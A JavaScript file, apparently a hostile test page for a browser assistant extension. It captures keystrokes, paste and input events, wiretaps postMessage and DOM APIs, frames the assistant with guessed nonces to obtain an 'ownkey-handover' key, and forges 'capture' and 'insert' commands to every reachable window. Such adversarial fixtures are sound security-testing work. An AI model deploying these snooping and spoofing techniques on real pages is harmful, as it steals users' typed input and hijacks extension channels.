/** Everything that this page could get hold of, as text. */
const RealChannel = MessageChannel
const loot = []
globalThis.loot = loot

const show = (value, depth = 0) => {
  if (depth > 3 || typeof value !== 'object' || value === null) return String(value)
  return Reflect.ownKeys(value)
    .map((key) => `${String(key)}=${show(value[key], depth + 1)}`)
    .join(',')
}
const keep = (name, value) => loot.push(`${name}: ${show(value)}`)

const events = new Set(
  [window, document, document.documentElement]
    .flatMap((target) => {
      const names = []
      for (const name in target) if (name.startsWith('on')) names.push(name.slice(2))
      return names
    })
    .concat([
      'focusin',
      'focusout',
      'message',
      'paste',
      'beforeinput',
      'input',
      'keydown',
      'keyup',
      'keypress',
    ]),
)
for (const name of events) {
  addEventListener(
    name,
    (event) =>
      keep(name, {
        data: event.data,
        key: event.key,
        detail: event.detail,
        path: event.composedPath().length,
      }),
    true,
  )
}

/** Puts itself between the page and what every script would call. */
const wiretap = (owner, name) => {
  const original = owner[name]
  owner[name] = function (...given) {
    keep(name, given)
    return original.apply(this, given)
  }
}
wiretap(Element.prototype, 'attachShadow')
wiretap(Window.prototype, 'postMessage')
wiretap(globalThis, 'postMessage')
wiretap(MessagePort.prototype, 'postMessage')
wiretap(EventTarget.prototype, 'addEventListener')
wiretap(EventTarget.prototype, 'dispatchEvent')
wiretap(Document.prototype, 'createElement')
wiretap(Node.prototype, 'appendChild')
wiretap(Element.prototype, 'append')
globalThis.MessageChannel = class {
  constructor() {
    keep('MessageChannel', 'made')
  }
}

new MutationObserver((changes) => {
  for (const { addedNodes } of changes) {
    for (const node of addedNodes) if (node.outerHTML) keep('added', node.outerHTML)
  }
}).observe(document, { childList: true, subtree: true, attributes: true })
new PerformanceObserver((list) => {
  for (const entry of list.getEntries()) keep('loaded', entry.name)
}).observe({ entryTypes: ['resource'] })

/** Frames the assistant itself and tells it that it was opened, with every kind of guess. */
const guesses = ['', 'x'.repeat(20), '0'.repeat(48), 'undefined', '__proto__'.repeat(4)]
globalThis.frameAssistant = (address) => {
  for (const nonce of guesses) {
    const frame = document.createElement('iframe')
    frame.className = 'mine'
    frame.src = address
    frame.addEventListener('load', () => {
      const { port1, port2 } = new RealChannel()
      port1.onmessage = ({ data }) => keep('answered', data)
      frame.contentWindow.postMessage({ type: 'ownkey-handover', nonce }, '*', [port2])
    })
    document.body.append(frame)
  }
}

/** Pretends to be the panel, to every window that it can reach. */
globalThis.forge = () => {
  const orders = [
    { type: 'capture' },
    { type: 'insert', request: 1, text: 'FORGED', place: '', anywhere: true },
    { type: 'ownkey-handover', nonce: '0'.repeat(48) },
  ]
  for (const order of orders) {
    for (const target of [window, ...Array.from({ length: window.length }, (_, index) => window[index])]) {
      target.postMessage(order, '*')
    }
    document.dispatchEvent(new CustomEvent('message', { detail: order }))
    dispatchEvent(new MessageEvent('message', { data: order }))
  }
}
